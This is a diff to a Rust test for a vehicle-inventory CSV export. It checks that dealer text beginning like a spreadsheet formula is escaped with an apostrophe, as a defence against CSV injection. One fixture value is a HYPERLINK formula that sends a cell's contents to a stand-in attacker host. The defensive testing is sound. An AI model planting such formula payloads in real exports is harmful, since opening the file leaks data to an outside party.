@@ -566,6 +566,17 @@ async fn two_dealers(adjust: impl FnOnce(&mut gateway::config::ServeSettings)) -
     open[5].history_reports = vec![];
     open[5].history_report_status = Some("not_available".into());
     open[5].first_public_listing_at = Some(now - chrono::Duration::days(3));
+    // Dealer text a spreadsheet would run as a formula (OWASP "CSV
+    // Injection"), a legitimate trim that starts like one, text already
+    // starting with the apostrophe mark before a trigger, and text that
+    // merely starts with an apostrophe.
+    open[0].make = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")".into();
+    open[0].stock_number = Some("=1+1".into());
+    open[1].model = "+SUM(1,2)".into();
+    open[2].trim = Some("-Line".into());
+    open[3].exterior_color = Some("@cmd".into());
+    open[5].interior_color = Some("'=already marked".into());
+    open[5].body_style = Some("'71 Classic".into());
     // Not expressible in DAP's CSV: left out of the feed.
     open[6].condition = "demo".into();
     open[7].listing_url = None;
@@ -670,7 +681,10 @@ fn assert_same_vehicle(imported: &VehicleRecord, expected: &VehicleRecord) {
 /// unknown), streamed, cacheable, and our own importer reads it back into
 /// the same public vehicles: ids, VINs, prices, statuses (in DAP's CSV
 /// enum) and every other fact the CSV carries. A vehicle DAP's CSV cannot
-/// express is left out; the private organization is in nothing.
+/// express is left out; the private organization is in nothing. Dealer
+/// text a spreadsheet would run as a formula is written with the
+/// apostrophe mark and read back as the dealer wrote it
+/// (docs/inventory-feeds.md "Cells a spreadsheet would run").
 #[tokio::test]
 async fn the_feed_round_trips_through_our_importer() {
     let fx = two_dealers(|_| {}).await;
@@ -739,6 +753,42 @@ async fn the_feed_round_trips_through_our_importer() {
         got.body.contains("\"Lariat, \"\"Sport\"\" Package\""),
         "RFC 4180 quoting"
     );
+    // No free-text cell starts like a formula: each that would gets the
+    // apostrophe mark, everything else is written as it is.
+    let text_columns = [
+        "stock_number",
+        "make",
+        "model",
+        "trim",
+        "body_style",
+        "exterior_color",
+        "interior_color",
+    ];
+    for row in &rows {
+        for c in text_columns {
+            assert!(
+                !row[col(c)].starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{c} would run in a spreadsheet: {row:?}"
+            );
+        }
+    }
+    let by_vin: BTreeMap<&str, &csv::StringRecord> = rows
+        .iter()
+        .map(|r| (r.get(col("vin")).unwrap(), r))
+        .collect();
+    let row = |i: usize| by_vin[fx.open[i].vin.as_deref().unwrap()];
+    assert_eq!(row(0)[col("make")], format!("'{}", fx.open[0].make));
+    assert_eq!(&row(0)[col("stock_number")], "'=1+1");
+    assert_eq!(
+        &row(0)[col("model")],
+        "F-150",
+        "not at the start: untouched"
+    );
+    assert_eq!(&row(1)[col("model")], "'+SUM(1,2)");
+    assert_eq!(&row(2)[col("trim")], "'-Line");
+    assert_eq!(&row(3)[col("exterior_color")], "'@cmd");
+    assert_eq!(&row(5)[col("interior_color")], "''=already marked");
+    assert_eq!(&row(5)[col("body_style")], "'71 Classic");
 
     let imported = import(fx.store.as_ref(), OPEN, &got.body).await;
     let rooftop_charges = vec![json!({
